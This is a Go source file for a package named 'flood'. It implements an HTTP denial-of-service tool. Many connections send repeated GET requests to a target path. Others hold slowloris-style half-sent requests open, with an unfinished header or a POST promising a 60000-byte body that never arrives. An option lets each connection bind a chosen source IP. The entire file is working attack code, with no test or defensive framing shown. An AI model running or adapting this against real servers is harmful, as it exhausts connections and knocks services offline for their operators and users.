// Package flood sends a receiver what nobody needs: visits over and over, and requests that never end.
package flood

import (
	"bufio"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"sync"
	"sync/atomic"
	"time"
)

// Options of a flood. Addr and Path are mandatory.
type Options struct {
	// Addr is the receiver's host:port, Path what is visited: a campaign's link.
	Addr, Path string
	// Visitors is how many connections send one visit after the other, Held how many send a part of a request.
	Visitors, Held int
	// From returns the i-th connection's own address; nil = the system's choice.
	From func(i int) net.IP
}

// Summary is what became of the visits.
type Summary struct {
	// Answered got somewhere, Refused got a status of 400 or above.
	Answered, Refused int64
	// Closed counts the connections that ended before the flood did.
	Closed int64
}

// pause is between the visits of a connection: the flood's own machine needs some of its processor.
const pause = 50 * time.Millisecond

// Run floods until ctx is done.
func Run(ctx context.Context, o Options) Summary {
	f := &flood{Options: o}
	var running sync.WaitGroup
	for i := range o.Visitors + o.Held {
		attack := f.visit
		if i >= o.Visitors {
			attack = f.hold
		}
		running.Go(func() {
			for ctx.Err() == nil {
				f.connect(ctx, i, attack)
			}
		})
	}
	running.Wait()
	return Summary{Answered: f.answered.Load(), Refused: f.refused.Load(), Closed: f.closed.Load()}
}

type flood struct {
	Options
	answered, refused, closed atomic.Int64
}

// connect makes the i-th connection and attacks over it until it ends.
func (f *flood) connect(ctx context.Context, i int, attack func(i int, conn net.Conn)) {
	dialer := net.Dialer{}
	if f.From != nil {
		dialer.LocalAddr = &net.TCPAddr{IP: f.From(i)}
	}
	conn, err := dialer.DialContext(ctx, "tcp", f.Addr)
	if err != nil {
		time.Sleep(pause)
		return
	}
	defer func() { _ = conn.Close() }()
	defer context.AfterFunc(ctx, func() { _ = conn.Close() })()
	attack(i, conn)
	if ctx.Err() == nil {
		f.closed.Add(1)
	}
}

// visit sends visits until the connection ends.
func (f *flood) visit(_ int, conn net.Conn) {
	for reader := bufio.NewReader(conn); ; time.Sleep(pause) {
		if _, err := fmt.Fprintf(conn, "GET %s HTTP/1.1\r\nHost: flood\r\n\r\n", f.Path); err != nil {
			return
		}
		resp, err := http.ReadResponse(reader, nil)
		if err != nil {
			return
		}
		_, _ = io.Copy(io.Discard, resp.Body)
		_ = resp.Body.Close()
		if resp.StatusCode >= http.StatusBadRequest {
			f.refused.Add(1)
		} else {
			f.answered.Add(1)
		}
	}
}

// hold sends the beginning of a header, or of a body, and waits until the connection ends.
func (f *flood) hold(i int, conn net.Conn) {
	begun := "GET %s HTTP/1.1\r\nHost: flood\r\nX-Unfinished: "
	if i%2 == 0 {
		begun = "POST %s HTTP/1.1\r\nHost: flood\r\nContent-Type: application/json\r\nContent-Length: 60000\r\n\r\n{"
	}
	if _, err := fmt.Fprintf(conn, begun, f.Path); err == nil {
		_, _ = io.Copy(io.Discard, conn)
	}
}
